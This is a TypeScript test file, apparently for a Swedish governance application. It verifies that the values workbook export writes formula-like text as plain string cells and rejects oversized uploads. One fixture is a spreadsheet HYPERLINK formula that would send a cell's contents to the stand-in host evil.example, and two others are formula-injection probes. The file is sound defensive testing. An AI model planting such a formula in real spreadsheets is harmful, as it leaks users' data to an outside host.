// The values workbook: user text stays a string cell whatever it starts with, and an upload is bounded
// before it is read.
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestApp, TestClient } from "../app/testing.ts";
import { setupTimeout, styrningTestApp } from "./testing.ts";
import { XLSX_TYPE } from "./vocabulary.ts";
import { MAX_VALUES_FILE_BYTES } from "./xlsx-service.ts";

const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
const atSum = "@SUM(1)";
const minus = "-1+1";

let t: TestApp;
let controller: TestClient;
const ifo = () => t.demo.nodes.ifo?.id ?? "";

beforeAll(async () => {
  t = await styrningTestApp();
  controller = await t.as("controller");
  const indicators = (await controller.get(`/api/styrning/indicators?orgNodeId=${ifo()}`)).json() as {
    id: string;
    name: string;
  }[];
  const id = indicators.find((i) => i.name === "Antal e-tjänster")?.id;
  const other = indicators.find((i) => i.name === "Personalomsättning")?.id;
  expect((await controller.patch(`/api/styrning/indicators/${id}`, { name: hyperlink })).statusCode).toBe(200);
  const saved = await controller.put("/api/styrning/values", {
    values: [
      { indicatorId: id, period: "2023", value: -3, note: atSum },
      { indicatorId: other, period: "2023", value: 4, note: minus },
    ],
  });
  expect(saved.statusCode, saved.body).toBe(200);
}, setupTimeout);
afterAll(() => t?.close());

describe("values workbook", () => {
  it("exports formula-like names and notes as string cells, and a negative value as a number", async () => {
    const res = await controller.get(`/api/styrning/values/export.xlsx?orgNodeId=${ifo()}&from=2023&to=2023`);
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const types = new Map<string, ExcelJS.ValueType>();
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if ([hyperlink, atSum, minus].includes(cell.value as string)) types.set(cell.value as string, cell.type);
      }),
    );
    expect(Object.fromEntries(types)).toEqual({
      [hyperlink]: ExcelJS.ValueType.String,
      [atSum]: ExcelJS.ValueType.String,
      [minus]: ExcelJS.ValueType.String,
    });
    let negative: ExcelJS.CellValue = null;
    sheet.eachRow((row) => {
      if (row.getCell(2).value === hyperlink && row.getCell(5).value === "2023") negative = row.getCell(8).value;
    });
    expect(negative).toBe(-3);
  });

  it("refuses a workbook over the size limit with 413 before reading it", async () => {
    const res = await controller.request({
      method: "POST",
      url: `/api/styrning/values/import.xlsx?orgNodeId=${ifo()}`,
      payload: Buffer.alloc(MAX_VALUES_FILE_BYTES + 1024 * 1024, 1),
      headers: { "content-type": XLSX_TYPE },
    });
    expect(res.statusCode).toBe(413);
    expect(res.json()).toEqual({
      code: "payload_too_large",
      message: "Excel-filen är för stor: högst 5 MB, den här är 6 MB. Importera färre indikatorer eller år åt gången.",
    });
  });
});
